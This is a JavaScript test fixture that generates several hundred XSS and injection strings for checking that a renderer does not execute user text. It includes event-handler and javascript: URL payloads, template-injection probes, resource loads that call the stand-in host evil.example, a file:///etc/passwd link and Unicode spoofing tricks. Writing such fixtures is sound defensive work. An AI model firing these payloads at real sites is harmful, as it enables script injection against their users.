// Hostile texts, made from families: what each would do if the page took text for more than text.
//
// A payload that runs sets `window.ran`, asks a foreign host, or opens a dialog; all three are seen.

const RUN = 'window.ran=1'
const HOST = 'https://evil.example'

const events = ['onerror', 'onload', 'onclick', 'onmouseover', 'onfocus', 'ontoggle', 'onanimationstart', 'onpointerenter', 'onbegin', 'onpageshow', 'onwheel', 'oncopy', 'oninput', 'onbeforeprint', 'onscroll', 'onresize']
const carriers = [
  (event) => `<img src=x ${event}="${RUN}">`,
  (event) => `<svg ${event}=${RUN}>`,
  (event) => `"><body ${event}='${RUN}'>`,
  (event) => `<details open ${event}=${RUN}><summary>x</summary></details>`,
  (event) => `<input autofocus ${event}="${RUN}">`,
  (event) => `' ${event}='${RUN}' x='`,
]
const elements = ['script', 'iframe', 'object', 'embed', 'link', 'style', 'base', 'meta', 'form', 'math', 'svg', 'template', 'noscript', 'video', 'audio', 'marquee']
const addresses = [
  `javascript:${RUN}`, `JaVaScRiPt:${RUN}`, ` javascript:${RUN}`, `java\tscript:${RUN}`, `java\nscript:${RUN}`, `javascript&colon;${RUN}`, `\u0001javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`, `data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=`, `data:image/svg+xml,<svg onload=${RUN}>`,
  `vbscript:${RUN}`, `//evil.example/x`, `https://user:pass@evil.example/`, `blob:${HOST}/x`, `file:///etc/passwd`, `view-source:${HOST}`,
]
const links = [(to) => `[a](${to})`, (to) => `![a](${to})`, (to) => `<${to}>`, (to) => `<a href="${to}">a</a>`, (to) => `[a]: ${to}\n[a]`]
const templates = ['{{constructor.constructor("window.ran=1")()}}', '${window.ran=1}', '<%= window.ran=1 %>', '#{window.ran=1}', '[[${window.ran=1}]]', '{n}{why}{sections}|{query}', '`${window.ran=1}`', '{{7*7}}', '__proto__', 'constructor', 'toString', 'hasOwnProperty']
const closers = ['</script>', '</SCRIPT >', '</style>', '</title>', '</textarea>', '</noscript>', '<!--', '-->', ']]>', '<!--<script>', '\\u003c/script\\u003e', '</template>']
const styles = [`<style>@import "${HOST}/x.css";</style>`, `<link rel=stylesheet href="${HOST}/x.css">`, `<div style="background:url(${HOST}/x)">`, `<div style="position:fixed;inset:0;z-index:9999">x</div>`, `</style><style>body{display:none}`, `"}*{background:url(${HOST}/y)}`]
const loads = [`<img src="${HOST}/x.png">`, `![x](${HOST}/x.png)`, `![x][1]\n\n[1]: ${HOST}/x.png`, `<img srcset="${HOST}/x 2x">`, `<video poster="${HOST}/x" src="${HOST}/y">`, `<link rel=prefetch href="${HOST}/x">`, `<meta http-equiv=refresh content="0;url=${HOST}">`, `<base href="${HOST}/">`, `<object data="${HOST}/x">`, `<form action="${HOST}"><button>x</button></form>`, `<iframe srcdoc="<script>parent.${RUN}</script>">`, `<svg><image href="${HOST}/x.png"/></svg>`, `<input type=image src="${HOST}/x">`, `<a ping="${HOST}/x" href="#">x</a>`]
const unicode = ['\u202Egnp.exe\u202C', '\uFEFF<script>window.ran=1</script>', '＜script＞window.ran=1＜/script＞', '<scr\u0000ipt>window.ran=1</scr\u0000ipt>', '\u2028window.ran=1\u2029', '<ſcript>window.ran=1</ſcript>', '<img src=x onerror\u00A0=window.ran=1>', '\u{1F600}'.repeat(50), 'a\u0301'.repeat(200), '\uD7FF\uE000', '\u200B<svg/onload=window.ran=1>', '\u2066<b>\u2069']
const markdown = ['# '.repeat(40), '> '.repeat(200) + 'x', `${'  '.repeat(60)}- x`, '```html\n<script>window.ran=1</script>', '| a |\n| - |\n| <img src=x onerror=window.ran=1> |', '**<svg onload=window.ran=1>**', '`<script>window.ran=1</script>`', `[<img src=x onerror=${RUN}>](${HOST})`, `[a](${HOST} "onmouseover=${RUN}")`, `[a](${HOST}"onclick="${RUN})`, `***[x](javascript:${RUN})***`, '<div markdown=1>\n\n# x\n\n</div>']

/** At least 300 texts, each once. */
export const PAYLOADS = [...new Set([
  ...events.flatMap((event) => carriers.map((carry) => carry(event))),
  ...elements.flatMap((name) => [`<${name}>${RUN}</${name}>`, `<${name} src="${HOST}/x" href="${HOST}/x" data="${HOST}/x">`, `<svg><${name}>${RUN}</${name}></svg>`, `<math><mtext><${name}><img src=x onerror=${RUN}>`]),
  ...addresses.flatMap((to) => links.map((link) => link(to))),
  ...templates, ...closers.map((closer) => `${closer}<script>${RUN}</script>`), ...styles, ...loads, ...unicode, ...markdown,
])]
